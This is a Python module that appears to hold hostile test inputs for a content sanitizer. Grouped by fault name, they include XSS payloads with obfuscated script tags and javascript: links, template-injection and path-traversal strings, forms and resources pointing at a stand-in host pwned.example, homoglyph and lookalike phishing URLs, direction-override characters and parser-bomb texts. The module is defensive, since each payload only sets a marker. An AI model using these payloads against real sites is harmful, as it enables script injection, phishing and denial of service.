"""What an attacker, a careless paste or a broken editor plants into content, by the names of the fault table.

In: nothing. Out: for each fault the texts that carry it. Each carries the word "pwned" where it would act, so
that what gets through can be found in a page. It knows neither the content types nor the generator.
"""

from __future__ import annotations

SET = "globalThis.pwned=1"

MARKUP: dict[str, tuple[str, ...]] = {
    "script": (f"<script>{SET}</script>", "<script src=//pwned.example/x></script>", f"</div><script>{SET}"),
    "split script": (
        f"<scr<script>ipt>{SET}</scr</script>ipt>",
        f"<script\n>{SET}</script\n>",
        f"<\\script>{SET}<\\/script>",
        f"<script/x>{SET}</script/x>",
        f"&lt;script&gt;{SET}&lt;/script&gt;",
        f"<!--><script>{SET}</script>-->",
        f"<![CDATA[><script>{SET}</script>]]>",
        f"**<**script>{SET}**<**/script>",
    ),
    "image onerror": (
        f"<img src=x onerror={SET}>",
        f"<img/src=x/onerror={SET}>",
        f"< img src=x onerror={SET} >",
    ),
    "SVG": (
        f"<svg onload={SET}>",
        f"<svg><script>{SET}</script></svg>",
        f"<math><mi xlink:href='javascript:{SET}'>",
    ),
    "javascript link": (
        f"[x](javascript:{SET})",
        f"[x](JaVaScRiPt:{SET})",
        f"[x](<javascript:{SET}>)",
        f"<javascript:{SET}>",
        f"javascript:{SET}",
        f'<a href="javascript:{SET}">x</a>',
    ),
    "javascript link, entity": (
        f"[x](java&#115;cript:{SET})",
        f"[x](&#x6A;avascript:{SET})",
        f"[x](javascript&colon;{SET})",
    ),
    "javascript link, tab": (
        f"[x](java\tscript:{SET})",
        f"[x](java\nscript:{SET})",
        f"[x](java%0ascript:{SET})",
    ),
    "javascript link, reference": (
        f"[x][y]\n\n[y]: javascript:{SET}",
        f"[y]\n\n[y]: <javascript:{SET}>",
        f"[[step:look-first|[x](javascript:{SET})]]",
        f"[[javascript:{SET}]]",
        f"[[javascript:{SET}|x]]",
        f"[[step:javascript:{SET}|x]]",
    ),
    "data link": (
        f"[x](data:text/html,<script>{SET}</script>)",
        "[x](data:text/html;base64,cHduZWQ=pwned)",
        "data:text/html,pwned",
    ),
    "attribute list": (
        f'**x**{{onclick="{SET}"}}',
        f"**x**{{: onclick={SET} }}",
        "**x**{: style=background:url(https://pwned.example/) }",
        "x\n{: #pwned .pwned onclick=pwned }",
        "{: .pwned }",
    ),
    "frame": (
        "<iframe src=https://pwned.example/></iframe>",
        f"<iframe srcdoc='<script>{SET}</script>'>",
        "<object data=//pwned.example>",
        "<embed src=//pwned.example>",
    ),
    "form": (
        "<form action=https://pwned.example/><input name=pwned></form>",
        "<button formaction=javascript:pwned>x</button>",
        "<input autofocus onfocus=pwned>",
    ),
    "meta refresh": ('<meta http-equiv="refresh" content="0;url=https://pwned.example/">',),
    "base": ("<base href=https://pwned.example/>",),
    "style": (
        "<style>@import 'https://pwned.example/x.css'</style>",
        '<p style="background:url(https://pwned.example/)">x</p>',
        "<link rel=stylesheet href=//pwned.example/>",
    ),
    "remote image": (
        "![x](https://pwned.example/x.png)",
        "<img src=https://pwned.example/x.png>",
        "![x][y]\n\n[y]: https://pwned.example/x.png",
        "<img srcset=//pwned.example/x.png>",
    ),
    "remote background": (
        '<td background="https://pwned.example/x.png">',
        '<div style="background-image:url(//pwned.example/x)">',
    ),
    "link that names another site": (
        "[https://www.gov.example/](https://pwned.example/)",
        '<a href="https://pwned.example/">www.gov.example</a>',
        "[[source:real-page|https://pwned.example/]]",
        "[[source:real-page|pwned.example.com]]",
        "[[step:look-first|www.pwned.example]]",
        "<https://pwned.example/>",
    ),
    "user info in an address": (
        "https://bank.example@pwned.example/",
        "https://bank.example:80@pwned.example/",
        "[x](https://a:b@pwned.example/)",
    ),
    "telephone that lies": (
        "[0800 111 222](tel:+1900666pwned)",
        '<a href="tel:+1900666">0800 pwned</a>',
        "tel:+1900666pwned",
        "sms:+1900666pwned?body=x",
        "[x](mailto:pwned@pwned.example)",
    ),
    "shortener": (
        "https://bit.ly/pwned",
        "[x](https://tinyurl.com/pwned)",
        "bit.ly/pwned",
        "t.co/pwned",
        "https://is.gd/pwned",
    ),
    "homoglyph": (
        "https://www.gоv.uk/pwned",
        "pаypal.com/pwned",
        "[x](https://аpple.com/pwned)",
        "https://xn--80ak6aa92e.com/pwned",
        "ϲourt pwned",
        "ТikTok pwned",
    ),
    "template out of the tree": (
        "{% include '../../../etc/pwned' %}",
        "{{ open('/etc/pwned') }}",
        "{% extends '/etc/pwned' %}",
        "{{ config.pwned }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}pwned",
        "{% import 'os' as pwned %}",
        "[[page:../../etc/pwned]]",
        "[[page:..%2f..%2fpwned|x]]",
        '--8<-- "/etc/pwned"',
        "{!/etc/pwned!}",
    ),
    "breaking out": (
        f'"><script>{SET}</script>',
        f"'onmouseover='{SET}",
        f'" onmouseover="{SET}" x="',
        f"]]><script>{SET}</script>",
        f"*/</style><script>{SET}</script>",
        f"</title><script>{SET}</script>",
        f"</check-list></article></div></main><script>{SET}</script>",
        f"`<script>{SET}</script>`",
        f"```\n<script>{SET}</script>\n```",
        f"---\n</script><script>{SET}</script>\n---",
        f"\\<script>{SET}\\</script>",
        f"\\[x\\](javascript:{SET})",
        f"**bold <b>{SET}**</b>",
        f"[^1]: <script>{SET}</script>",
        f"!!! note\n    <script>{SET}</script>",
        f'=== "<script>{SET}</script>"',
        f"*[HTML]: <script>{SET}</script>",
        f":smile:{{onclick={SET}}}",
        f"$$<script>{SET}</script>$$",
    ),
}
"""Markup, by the names of the fault table: refused, or words on the page."""

CHARACTERS: dict[str, tuple[bytes, ...]] = {
    "bytes not UTF-8": (
        b"\xff",
        b"\xc3",
        b"\xed\xa0\x80",
        b"\xf0\x9f\x93",
        b"\xc0\xbc",
        b"\xf8\x88\x80\x80\x80",
    ),
    "NUL": (b"\x00", b"a\x00b"),
    "control characters": (
        b"\x07",
        b"\x1b[31m",
        b"\x08",
        b"\x7f",
        "\x85".encode(),
        "\u2028".encode(),
        "\u2029".encode(),
    ),
    "direction overrides": tuple(
        chr(code).encode()
        for code in (0x202A, 0x202B, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x200E, 0x200F, 0x061C)
    ),
    "zero-width": tuple(
        chr(code).encode() for code in (0x200B, 0x200C, 0x200D, 0x2060, 0xFEFF, 0x180E, 0x00AD)
    ),
    "tags": ("\U000e0041".encode(), "\U000e007f".encode()),
}
"""Bytes that make a file lie to who reviews it; each is refused wherever it stands."""

CLOBBERING = (
    "__proto__",
    "constructor",
    "prototype",
    "hasOwnProperty",
    "toString",
    "undelivered",
    "__defineGetter__",
)
"""Ids that would stand for something else in a script, or hide it."""

FORM_NAMES = ("elements", "reset", "submit", "remove", "append", "country")
"""Names that a form uses itself: a field of that name would hide it from the letter's script."""

HARMLESS_IDS = (
    "location",
    "name",
    "top",
    "self",
    "history",
    "length",
    "document",
    "window",
    "event",
    "status",
)
"""Ids that hide nothing: a page's own names win over ids."""

BOMBS: dict[str, str] = {
    "square brackets": "[" * 20_000,
    "double brackets": "[[" * 10_000,
    "closed brackets": "[" * 5_000 + "x" + "]" * 5_000,
    "links in links": "[a](" * 5_000,
    "images in images": "![a](" * 5_000,
    "references in references": "[[step:look-first|" * 3_000,
    "emphasis": "*a **b " * 5_000,
    "emphasis of all lengths": "".join("*" * n + "a" for n in range(400)),
    "underscores": "_a__b" * 5_000,
    "escapes": "\\" * 20_000,
    "backticks": "".join("`" * n + "x" for n in range(300)),
    "quotes": "> " * 5_000 + "x",
    "list in list": "- " * 5_000 + "x",
    "numbered list in list": "1. " * 5_000 + "x",
    "deep list": "\n".join(" " * (2 * depth) + "- x" for depth in range(300)),
    "many items": "- x\n" * 20_000,
    "table": "|a" * 5_000 + "|\n" + "|-" * 5_000 + "|\n" + "|b" * 5_000 + "|",
    "entities": "&#x41;" * 10_000,
    "tags": "<a " * 20_000,
    "open comment": "<!--" * 10_000,
    "ampersands": "&" * 20_000,
    "at signs": "a@" * 10_000,
    "dots": "a." * 20_000,
    "spaces": "a" + " " * 50_000 + "b",
    "lines": "a\n" * 20_000,
    "empty lines": "a\n\n" * 20_000,
    "numbers": "1," * 20_000,
    "capitals": "Ab " * 20_000,
    "conditions": "{% if looked %}" * 2_000,
    "gaps": "{{ name }}" * 3_000,
    "not": "{% if " + "not " * 3_000 + "looked %}x{% endif %}",
    "parentheses": "{% if " + "(" * 3_000 + "looked" + ")" * 3_000 + " %}x{% endif %}",
    "promises": "you will " * 5_000,
    "combining": "a" + "\u0301" * 20_000,
}
"""Texts that a careless parser needs minutes for, or a stack without end."""
